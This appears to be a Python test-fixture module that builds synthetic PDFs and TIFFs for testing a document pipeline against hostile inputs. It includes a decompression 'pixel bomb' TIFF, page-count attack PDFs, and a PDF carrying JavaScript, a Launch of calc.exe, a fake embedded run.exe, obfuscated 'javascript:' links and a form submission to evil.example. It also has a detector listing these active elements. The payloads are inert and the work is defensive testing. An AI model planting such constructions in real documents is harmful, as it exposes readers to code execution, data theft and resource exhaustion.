"""Long PDFs and TIFFs built on the spot for the page-by-page and hostile-input tests, and counting seams."""

from __future__ import annotations

import io
import struct

import img2pdf
import numpy as np
import pdfplumber
import pdfplumber.page
import pikepdf
import pypdfium2 as pdfium
import pytest
from fpdf import FPDF
from PIL import Image, TiffImagePlugin

from examples.synth import Degradation, degrade, make_page, make_receipt

FONT = "/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"


def page_text(number: int) -> str:
    """The text printed on page `number` of `born_digital_pdf`: enough letters to count as a layer."""
    return f"Trang số {number}: Tờ khai thay đổi thông tin cư trú của công dân"


def born_digital_pdf(pages: int) -> bytes:
    """A born-digital PDF of `pages` A4 pages, each printing `page_text(n)` with an embedded font."""
    pdf = FPDF(unit="pt", format="A4")
    pdf.set_auto_page_break(False)
    pdf.add_font("dejavu", "", FONT)
    pdf.set_font("dejavu", size=14)
    for number in range(1, pages + 1):
        pdf.add_page()
        pdf.text(72, 100, page_text(number))
    return bytes(pdf.output())


def scan_jpegs(
    count: int, *, dpi: int = 150, height: float = 1.0, noise: float = 3.0, quality: int = 80
) -> list[bytes]:
    """`count` distinct degraded A4 scans (forms and a receipt) as grayscale JPEG files.

    `height` < 1 keeps only the top of each page (fewer words to OCR: faster tests, same code path);
    more `noise` and `quality` make bigger files of the same pages.
    """
    files = []
    for seed in range(count):
        make = make_receipt if seed % 3 == 2 else make_page
        page = make(("khai-sinh", "thuong-tru", "ket-hon")[seed % 3], seed=seed, dpi=dpi)
        image = degrade(
            page.image, Degradation(skew=1.0 * (seed % 3 - 1), noise=noise), np.random.default_rng(seed)
        )
        image = image.crop((0, 0, image.width, round(image.height * height)))
        buffer = io.BytesIO()
        image.convert("L").save(buffer, format="JPEG", quality=quality, dpi=(dpi, dpi))
        files.append(buffer.getvalue())
    return files


def scanned_pdf(
    pages: int,
    *,
    distinct: int = 6,
    dpi: int = 150,
    height: float = 1.0,
    noise: float = 3.0,
    quality: int = 80,
) -> bytes:
    """A scanned PDF of `pages` pages cycling through `distinct` scans (see `scan_jpegs`), one image
    object per page."""
    scans = scan_jpegs(distinct, dpi=dpi, height=height, noise=noise, quality=quality)
    layout = img2pdf.get_fixed_dpi_layout_fun((dpi, dpi))
    return bytes(img2pdf.convert([scans[i % distinct] for i in range(pages)], layout_fun=layout))


def blank_scanned_pdf(pages: int) -> bytes:
    """A scanned PDF of small white pages (cheap to make, no text layer)."""
    buffer = io.BytesIO()
    Image.new("L", (80, 100), 255).save(buffer, format="PNG", dpi=(72, 72))
    return bytes(img2pdf.convert([buffer.getvalue()] * pages))


class Extractions:
    """Counts pdfplumber documents opened and page texts extracted, through pdfplumber's public API."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.opened = 0
        self.pages: list[int] = []
        open_pdf, extract = pdfplumber.open, pdfplumber.page.Page.extract_text

        def counting_open(*args: object, **kwargs: object) -> pdfplumber.PDF:
            self.opened += 1
            return open_pdf(*args, **kwargs)  # type: ignore[arg-type]

        def counting_extract(page: pdfplumber.page.Page, *args: object, **kwargs: object) -> str:
            self.pages.append(page.page_number)
            return extract(page, *args, **kwargs)  # type: ignore[arg-type]

        monkeypatch.setattr(pdfplumber, "open", counting_open)
        monkeypatch.setattr(pdfplumber.page.Page, "extract_text", counting_extract)


class PdfiumOpens:
    """Counts pdfium documents opened, through pypdfium2's public constructor."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.count = 0
        opened = pdfium.PdfDocument

        def counting(*args: object, **kwargs: object) -> pdfium.PdfDocument:
            self.count += 1
            return opened(*args, **kwargs)  # type: ignore[arg-type]

        monkeypatch.setattr(pdfium, "PdfDocument", counting)


class DirectoryReads:
    """Counts TIFF directories (frame headers) Pillow reads, through its public directory class."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.count = 0
        load = TiffImagePlugin.ImageFileDirectory_v2.load

        def counting(directory: TiffImagePlugin.ImageFileDirectory_v2, fp: object) -> None:
            self.count += 1
            load(directory, fp)  # type: ignore[arg-type]

        monkeypatch.setattr(TiffImagePlugin.ImageFileDirectory_v2, "load", counting)


def blank_pdf(pages: int) -> bytes:
    """A PDF of `pages` empty A4 pages (about 230 bytes each): the shape of a page-count attack."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def pixel_bomb_tiff() -> bytes:
    """A 1×1 first frame (it passes Pillow's check at open), then a 196 Mpx second one in 9 kB of group4."""
    buffer = io.BytesIO()
    Image.new("1", (1, 1), 1).save(
        buffer,
        format="TIFF",
        save_all=True,
        append_images=[Image.new("1", (14_000, 14_000), 1)],
        compression="group4",
    )
    return buffer.getvalue()


def blank_tiff(frames: int, size: tuple[int, int] = (64, 80), *, compression: str | None = None) -> bytes:
    """A multi-frame bi-level TIFF of white frames at 200 dpi.

    Uncompressed (the default), it is written directly, every frame's directory pointing at one shared
    strip: Pillow's writer needs seconds for a few thousand frames. With a `compression` ("group4"),
    Pillow writes it, as a scanner would.
    """
    if compression is not None:
        images = [Image.new("1", size, 1) for _ in range(frames)]
        buffer = io.BytesIO()
        images[0].save(
            buffer,
            format="TIFF",
            save_all=True,
            append_images=images[1:],
            compression=compression,
            dpi=(200, 200),
        )
        return buffer.getvalue()
    width, height = size
    strip = bytes(((width + 7) // 8) * height)  # WhiteIsZero: zero bits are white
    resolution_at = 8 + len(strip)
    first_ifd = resolution_at + 8
    short, long, rational = 3, 4, 5
    entries = [
        (256, long, width),
        (257, long, height),
        (258, short, 1),
        (259, short, 1),  # no compression
        (262, short, 0),  # WhiteIsZero
        (273, long, 8),  # the strip, right after the header
        (277, short, 1),
        (278, long, height),
        (279, long, len(strip)),
        (282, rational, resolution_at),
        (283, rational, resolution_at),
        (296, short, 2),  # inches
    ]
    ifd_size = 2 + 12 * len(entries) + 4
    out = bytearray(struct.pack("<2sHI", b"II", 42, first_ifd) + strip + struct.pack("<II", 200, 1))
    for index in range(frames):
        following = first_ifd + (index + 1) * ifd_size if index + 1 < frames else 0
        out += struct.pack("<H", len(entries))
        for tag, kind, value in entries:
            if kind == short:  # left-aligned in the 4-byte value field
                out += struct.pack("<HHIHH", tag, kind, 1, value, 0)
            else:
                out += struct.pack("<HHII", tag, kind, 1, value)
        out += struct.pack("<I", following)
    return bytes(out)


SAFE_LINK = "https://dichvucong.gov.vn/"


def active_pdf() -> bytes:
    """A born-digital two-page PDF carrying every kind of active content a viewer might run.

    Page 1 has additional actions (open/close) and annotations with JavaScript, Launch, SubmitForm,
    ImportData, ResetForm, RichMediaExecute, GoToR, GoToE and `javascript:` URI actions (some chained with
    /Next), a form widget with field actions, a file attachment and media annotations; the catalog has an
    /OpenAction, document actions, /Names /JavaScript and /EmbeddedFiles, and an AcroForm with XFA. An https
    link and a link to page 2 are harmless and must survive, as must both pages' text.
    """
    pdf = pikepdf.open(io.BytesIO(born_digital_pdf(2)))
    name, dictionary, string = pikepdf.Name, pikepdf.Dictionary, pikepdf.String

    def action(kind: str, **fields: object) -> pikepdf.Object:
        return pdf.make_indirect(dictionary(Type=name.Action, S=name(kind), **fields))

    def script(code: str) -> pikepdf.Object:
        return action("/JavaScript", JS=string(code))

    def annotation(subtype: str, **fields: object) -> pikepdf.Object:
        return pdf.make_indirect(
            dictionary(Type=name.Annot, Subtype=name(subtype), Rect=[72, 72, 144, 96], **fields)
        )

    payload = pdf.make_stream(b"MZ\x90\x00 not really a program", Type=name.EmbeddedFile)
    attached = pdf.make_indirect(
        dictionary(Type=name.Filespec, F=string("run.exe"), EF=dictionary(F=payload))
    )
    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    first.AA = dictionary(O=script("app.alert('page opened')"), C=action("/Launch", F=string("calc.exe")))
    appearance = pdf.make_stream(
        b"0 g 0 0 72 24 re f", Type=name.XObject, Subtype=name.Form, BBox=[0, 0, 72, 24]
    )
    field = pdf.make_indirect(
        dictionary(FT=name.Tx, T=string("ho_ten"), AA=dictionary(K=script("app.alert('k')")))
    )
    widget = annotation(
        "/Widget",
        Parent=field,
        A=action("/SubmitForm", F=string("https://evil.example/collect")),
        AA=dictionary(Fo=script("app.alert('focus')")),
        AP=dictionary(N=appearance),
    )
    field.Kids = [widget]
    first.Annots = pdf.make_indirect(
        [
            annotation("/Link", A=script("app.alert('link')")),
            annotation("/Link", A=action("/URI", URI=string(SAFE_LINK), Next=[script("app.alert('next')")])),
            annotation("/Link", A=action("/URI", URI=string("javascript:app.alert('uri')"))),
            annotation("/Link", A=action("/URI", URI=string(" JaVa\tScRiPt:app.alert('uri')"))),
            annotation("/Link", A=action("/GoTo", D=[second, name.Fit], Next=action("/Launch", F=attached))),
            annotation("/Link", A=action("/GoToR", F=attached, D=[0, name.Fit])),
            annotation("/Link", A=action("/GoToE", T=dictionary(R=name.C, N=string("run.exe")))),
            annotation("/Link", A=action("/ImportData", F=string("data.fdf"))),
            annotation("/Link", A=action("/ResetForm")),
            annotation("/Link", A=action("/RichMediaExecute", TA=second, CMD=dictionary(C=string("x")))),
            annotation("/Link", PA=script("app.alert('pa')")),
            annotation("/FileAttachment", FS=attached),
            annotation("/Screen", A=action("/Rendition", JS=string("app.alert('rendition')"))),
            annotation("/RichMedia", RichMediaContent=dictionary(Assets=dictionary())),
            widget,
        ]
    )
    second.Annots = [annotation("/Link", A=action("/GoTo", D=[first, name.Fit]))]
    pdf.Root.OpenAction = script("app.alert('document opened')")
    pdf.Root.AA = dictionary(WC=script("app.alert('closing')"))
    pdf.Root.Names = dictionary(
        JavaScript=dictionary(Names=[string("hello"), script("app.alert('names')")]),
        EmbeddedFiles=dictionary(Names=[string("run.exe"), attached]),
    )
    pdf.Root.AcroForm = dictionary(Fields=[field], XFA=pdf.make_stream(b"<xdp:xdp></xdp:xdp>"))
    pdf.Root.Pages.AA = dictionary(O=script("app.alert('pages')"))
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


ACTIVE_KEYS = {"/AA", "/OpenAction", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA", "/AcroForm"}
ACTIVE_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"}


def active_elements(data: bytes) -> list[str]:
    """Everything active found in any object of the PDF (every object of its file, not only the reachable
    ones), as readable descriptions; an empty list means the PDF is inert but for GoTo and http(s) links."""
    found: list[str] = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        stack: list[pikepdf.Object] = [pdf.trailer, *pdf.objects]
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.Array):
                stack.extend(item for item in obj if _direct(item))
                continue
            if not isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
                continue
            keys = set(obj.keys())
            found += [f"key {key}" for key in sorted(keys & ACTIVE_KEYS)]
            kind = obj.get("/S")
            if "/S" in keys and str(kind) in {
                "/JavaScript",
                "/Launch",
                "/SubmitForm",
                "/ImportData",
                "/ResetForm",
            }:
                found.append(f"action {kind}")
            if str(kind) in {"/RichMediaExecute", "/GoToR", "/GoToE", "/Rendition", "/Named", "/Hide"}:
                found.append(f"action {kind}")
            if str(kind) == "/URI" and not str(obj.get("/URI", "")).startswith(("http:", "https:")):
                found.append(f"action /URI {obj.get('/URI')}")
            if str(obj.get("/Type")) == "/EmbeddedFile":
                found.append("embedded file")
            if str(obj.get("/Subtype")) in ACTIVE_ANNOTATIONS:
                found.append(f"annotation {obj.get('/Subtype')}")
            stack.extend(value for value in (obj[key] for key in keys) if _direct(value))
        raw = io.BytesIO()
        pdf.save(raw, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    found += [f"bytes {word!r}" for word in (b"app.alert", b"calc.exe", b"run.exe") if word in raw.getvalue()]
    return found


def _direct(value: object) -> bool:
    """A PDF object stored inside another (indirect ones are walked as objects of the file themselves)."""
    return isinstance(value, pikepdf.Object) and not value.is_indirect


def link_targets(data: bytes) -> list[str]:
    """What the link annotations of each page still do: 'uri <target>' or 'goto page <n>'."""
    targets = []
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pages = {page.obj.objgen: number for number, page in enumerate(pdf.pages, start=1)}
        for page in pdf.pages:
            for annotation in page.obj.get("/Annots", []):
                action = annotation.get("/A")
                if action is None:
                    continue
                if str(action.S) == "/URI":
                    targets.append(f"uri {action.URI}")
                elif str(action.S) == "/GoTo":
                    targets.append(f"goto page {pages.get(action.D[0].objgen)}")
    return targets
